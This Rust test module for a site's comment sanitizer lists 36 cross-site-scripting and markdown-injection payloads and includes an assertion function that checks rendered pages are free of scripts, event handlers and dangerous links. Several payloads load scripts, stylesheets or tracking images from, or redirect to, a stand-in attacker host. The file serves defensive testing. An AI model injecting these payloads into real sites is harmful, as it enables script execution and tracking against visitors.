//! What nobody writes in good faith, and what no page may become by it.

use super::Page;
use scraper::Selector;

/// The elements a comment may have.
const ALLOWED: [&str; 12] = [
    "p",
    "br",
    "em",
    "strong",
    "del",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "a",
];

/// Texts that would run something, load something or break out of where they stand, were they believed.
pub const PAYLOADS: [&str; 36] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href='https://example.org' onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<style>@import '//evil.example';</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "' onmouseover=alert(1) x='",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "![x](https://evil.example/track.png)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "`<script>` **<b onclick=alert(1)>** > <i style=x:expression(alert(1))>",
];

/// Nothing of a page runs, loads from elsewhere, or stands in a comment that may not.
#[track_caller]
pub fn is_clean(page: &Page, what: &str) {
    let html = page.html();
    let all = |selector: &str| html.select(&Selector::parse(selector).unwrap()).count();
    for forbidden in [
        "script:not([type='application/ld+json'], [src^='/static/js/'])",
        "style",
        "iframe",
        "object",
        "embed",
        "base",
        "svg script",
        "math",
        "meta[http-equiv]",
        "img[src^='https://evil']",
        "link[href*='//evil']",
    ] {
        assert_eq!(all(forbidden), 0, "{what}: {forbidden}");
    }
    for element in html.select(&Selector::parse("*").unwrap()) {
        for (name, value) in element.value().attrs() {
            assert!(!name.starts_with("on"), "{what}: {name}");
            assert!(name != "style", "{what}: style");
            let scheme: String = value
                .to_lowercase()
                .chars()
                .filter(|c| !c.is_whitespace() && !c.is_control())
                .collect();
            let runs = ["javascript:", "data:text", "vbscript:"]
                .iter()
                .any(|bad| scheme.starts_with(bad));
            assert!(
                !runs || !["href", "src", "action", "formaction"].contains(&name),
                "{what}: {name}={value}"
            );
        }
    }
    for body in html.select(&Selector::parse(".comment-body *").unwrap()) {
        let element = body.value();
        assert!(
            ALLOWED.contains(&element.name()),
            "{what}: <{}>",
            element.name()
        );
        for (name, _) in element.attrs() {
            let fits = matches!(
                (element.name(), name),
                ("a", "href" | "rel") | ("ol", "start")
            );
            assert!(fits, "{what}: <{} {name}>", element.name());
        }
    }
}
